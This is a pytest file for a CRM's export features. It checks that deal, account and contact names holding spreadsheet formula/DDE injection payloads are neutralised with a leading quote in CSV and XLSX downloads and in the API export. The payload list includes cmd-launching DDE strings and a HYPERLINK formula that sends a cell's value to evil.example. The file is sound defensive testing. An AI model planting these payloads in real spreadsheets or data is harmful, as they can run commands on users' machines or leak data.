"""Abuse by formula: deal, account and contact names that a spreadsheet would run as formulas,
DDE payloads included (`=cmd|' /C calc'!A0`, `@SUM(...)`, `+`, `-`, a HYPERLINK, a full-width
equals sign), come out of every export neutralised: in the CSV and XLSX downloads of the deal
list, the board and the funnel drill-down, the account and contact lists, and the API's CSV
export, each is text behind a leading quote and never the formula itself. (What the export
tests of the pages and the API do not try.)"""

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from loudou.customers.services import account_create, contact_create
from tests.conftest import credit_code
from tests.trust.hostile_text import _api, _client

DDE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "＝cmd|' /C calc'!A0",
]


@pytest.fixture
def dde_deals(walker: Any, org: dict[str, Any]) -> list[Any]:
    return [walker.create(name=f"{text}", amount="1000") for text in DDE]


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("url", ["/opportunities/", "/board/", "/funnel/deals/?stage=discover"])
def test_dde_payloads_are_neutralised_in_web_exports(
    dde_deals: list[Any], org: dict[str, Any], url: str
) -> None:
    client = _client(org["seller"])
    sep = "&" if "?" in url else "?"
    rows = _csv(client.get(f"{url}{sep}export=csv"))
    cells = [c for row in rows[1:] for c in row]
    for text in DDE:
        assert "'" + text in cells, (url, text)
        assert text not in cells, (url, text)
    response = client.get(f"{url}{sep}export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    found = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if c.value in set(DDE)}
    assert set(found) == set(DDE), url
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())


def test_dde_payloads_in_account_and_contact_exports(org: dict[str, Any]) -> None:
    seller = org["seller"]
    acc = account_create(
        actor=seller, name=DDE[0], credit_code=credit_code(88), organisations_count=1
    )
    contact_create(account=acc, actor=seller, name=DDE[1], title=DDE[2], phone="+86 138 0000")
    client = _client(seller)
    accounts = [c for row in _csv(client.get("/accounts/?export=csv"))[1:] for c in row]
    assert "'" + DDE[0] in accounts and DDE[0] not in accounts
    contacts = _csv(client.get(f"/accounts/{acc.pk}/?export=csv&list=contacts"))
    cells = [c for row in contacts[1:] for c in row]
    assert {"'" + DDE[1], "'" + DDE[2], "'+86 138 0000"} <= set(cells)


def test_api_csv_export_neutralises_dde(dde_deals: list[Any], org: dict[str, Any]) -> None:
    api = _api(org["seller"])
    response = api.get("/api/v1/exports/opportunities", {"format": "csv"})
    cells = [c for row in _csv(response)[1:] for c in row]
    for text in DDE:
        assert "'" + text in cells and text not in cells, text
